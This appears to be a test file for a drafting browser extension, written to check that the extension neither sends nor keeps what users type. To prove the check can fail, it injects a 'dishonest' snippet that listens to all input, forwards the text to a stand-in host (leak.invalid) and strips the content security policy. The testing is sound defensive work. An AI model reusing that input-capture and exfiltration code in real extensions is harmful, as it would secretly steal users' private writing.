import { describe, expect, it } from 'vitest';
import { type BrowserName, extensionStorage, startNetworkLog } from '../../scripts/browser';
import { STOP } from './drafts';
import { type Desk, openPractice, practiceBuild } from './open-practice';
import { type Breakage, spoil } from './spoil';

/** A word that occurs nowhere else, so that finding it means finding the draft. */
const MARKER = 'quillwort';
const TEXT = `${STOP.text} ${MARKER}`;

/** Chromium asks here for its spelling dictionary when somebody first types; no switch turns it off. */
const BROWSERS_OWN = /^redirector\.gvt1\.com\b/;

/** Reads everything sent and everything kept while one draft is written, explained and published. */
async function watch(name: BrowserName, extension: string) {
  const network = await startNetworkLog();
  const practice = await openPractice(name, { extension, proxy: network.proxy });
  try {
    const desk = await practice.openRoom('textarea');
    const practiceHost = new URL(desk.page.url()).host;
    await writeAndPublish(desk);
    const kept = {
      extension: await extensionStorage(practice.browser),
      page: await desk.page.evaluate(async () => ({
        local: { ...localStorage },
        session: { ...sessionStorage },
        databases: (await indexedDB.databases()).map((database) => database.name),
        cookies: document.cookie,
      })),
    };
    const sent = network
      .attempts()
      .filter(({ host, path }) => host !== practiceHost || path.includes('?'))
      .filter(({ host }) => !BROWSERS_OWN.test(host));
    return { sent, kept: JSON.stringify(kept) };
  } finally {
    await practice.close();
    await network.close();
  }
}

async function writeAndPublish(desk: Desk): Promise<void> {
  const { surface } = desk;
  await desk.type(TEXT);
  await surface.waitFor('.badge .count');
  await surface.click('.badge .count button');
  await surface.click('.list .row');
  await surface.click('.card .clause button');
  await surface.waitFor('.card .clause-text');
  await surface.click('.card header button');
  // The badge comes back to its place when the card has gone.
  await surface.waitForGone('.card');
  await surface.click('.badge .chip button');
  await surface.waitFor('.badge [data-mode=personal]');
  await surface.click('.line button:first-of-type');
  await surface.waitFor('.badge .count');
  await desk.pressPost();
  await surface.click('dialog.review input[type=checkbox]');
  await surface.click('dialog.review .post-anyway button');
  await desk.waitForPublished(TEXT);
}

/**
 * What a dishonest version would do: keep a copy of the draft and send it away. Our own pages may
 * connect to nothing, so that has to be broken too.
 */
const dishonest: Readonly<Record<string, Breakage>> = {
  'manifest.json': (manifest) =>
    JSON.stringify({ ...JSON.parse(manifest), content_security_policy: undefined }),
  'content-scripts/guard.js': (code) => `${code};
    addEventListener('input', ({ target }) => {
      const leak = target.value;
      if (leak) (globalThis.browser ?? chrome).runtime.sendMessage({ type: 'leak', leak });
    }, true);`,
  'background.js': (code) => `${code};
    (globalThis.browser ?? chrome).runtime.onMessage.addListener(({ leak }) => {
      if (!leak) return;
      fetch('http://leak.invalid/?draft=' + encodeURIComponent(leak)).catch(() => {});
      (globalThis.browser ?? chrome).storage.local.set({ leak });
    });`,
};

describe.each(['chromium', 'firefox'] as const)('%s', (name) => {
  it('sends nothing anywhere and keeps no draft text', async () => {
    const { sent, kept } = await watch(name, practiceBuild(name));
    expect(sent).toEqual([]);
    expect(kept).not.toContain(MARKER);
    expect(kept).toContain('accountModes');
  });

  it('would notice a draft that is sent or kept', async () => {
    const spoilt = spoil(practiceBuild(name), dishonest);
    try {
      const { sent, kept } = await watch(name, spoilt.folder);
      expect(sent.some(({ host }) => host.startsWith('leak.invalid'))).toBe(true);
      expect(kept).toContain(MARKER);
    } finally {
      spoilt.remove();
    }
  });
});
